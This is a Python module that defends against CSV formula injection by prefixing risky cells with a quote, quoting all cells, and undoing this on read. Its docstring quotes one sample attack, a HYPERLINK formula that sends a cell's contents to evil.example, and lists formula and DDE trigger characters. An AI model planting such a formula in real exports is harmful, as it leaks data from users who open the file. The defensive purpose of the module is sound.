"""Spreadsheet-safe CSV: every CSV that MWI writes or reads goes through this module.

A spreadsheet program opening a CSV evaluates a cell that starts like a formula:
`=HYPERLINK("http://evil.example/?leak="&A2,"docs")` in a project's name would become a link
that sends the neighbouring cell away (OWASP, "CSV Injection"; CWE-1236). The writer here
neutralises such cells as OWASP and ASVS 5.0 (1.2.10) advise, by putting a single quote
before them, and quotes every cell (RFC 4180 §2.6-2.7) so that no separator or line break
inside a value starts a new cell. The reader takes the quote off again, so MWI's importers
read back exactly what was written.

A cell is neutralised when, after any leading whitespace, it starts with a character that some
spreadsheet reads as the start of a formula or a command: `= + - @` (and their full-width
forms `＝ ＋ － ＠`, which Japanese-locale spreadsheets accept), `|` and `%` (DDE and macro
prefixes), TAB, CR, LF or NUL. A cell starting with a single quote gets one more, so that
reading is exact for every text. Plain numbers (`-12`, `+3.5`) are left as they are: they are
numbers in any spreadsheet, not formulas.

Written by hand: defusedcsv, the one package for this, rewrites `|` inside cells and cannot
be reversed, so an importer could not read its output back as it was.
"""

import csv
import re

FORMULA_STARTS = frozenset("=+-@|%\t\r\n\x00＝＋－＠")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
# Leading characters a spreadsheet may skip before it looks for a formula.
_SKIPPED = " \u00a0\u3000"


def neutralise(value):
    """The text of one cell as written: `value` (any object; None is "") as str, with a
    single quote in front when a spreadsheet could evaluate it or when it starts with one."""
    text = "" if value is None else str(value)
    if not text or _PLAIN_NUMBER.fullmatch(text):
        return text
    first = text.lstrip(_SKIPPED)[:1]
    return QUOTE + text if first in FORMULA_STARTS or first == QUOTE else text


def restore(text):
    """The value a cell written by neutralise() stood for (str -> str)."""
    return text[1:] if text.startswith(QUOTE) else text


def writer(file, **options):
    """csv.writer(file) that neutralises every cell and quotes all of them."""
    return _Writer(csv.writer(file, quoting=csv.QUOTE_ALL, **options))


class _Writer:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """csv.DictWriter that neutralises every cell and quotes all of them; the header too."""

    def __init__(self, file, fieldnames, **options):
        super().__init__(file, fieldnames, **options)
        self.writer = writer(file)


class _Reader:
    """A csv reader whose rows hold the cells as they were before neutralise()."""

    def __init__(self, inner):
        self._inner = inner

    def __iter__(self):
        return self

    def __next__(self):
        return [restore(cell) for cell in next(self._inner)]

    @property
    def line_num(self):
        return self._inner.line_num

    @property
    def dialect(self):
        return self._inner.dialect


def reader(file, **options):
    """csv.reader(file) giving back each cell as it was before neutralise()."""
    return _Reader(csv.reader(file, **options))


class DictReader(csv.DictReader):
    """csv.DictReader giving back each cell (and header) as it was before neutralise()."""

    def __init__(self, file, fieldnames=None, **options):
        super().__init__(file, fieldnames, **options)
        self.reader = _Reader(self.reader)
